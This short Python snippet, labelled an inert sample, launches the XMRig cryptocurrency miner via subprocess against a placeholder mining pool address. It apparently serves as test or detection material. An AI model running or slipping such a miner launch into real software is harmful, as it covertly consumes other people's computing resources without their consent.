# INERT SAMPLE: never run.
import subprocess
subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example.invalid:3333", "-u", "inert", "--donate-level", "1"])
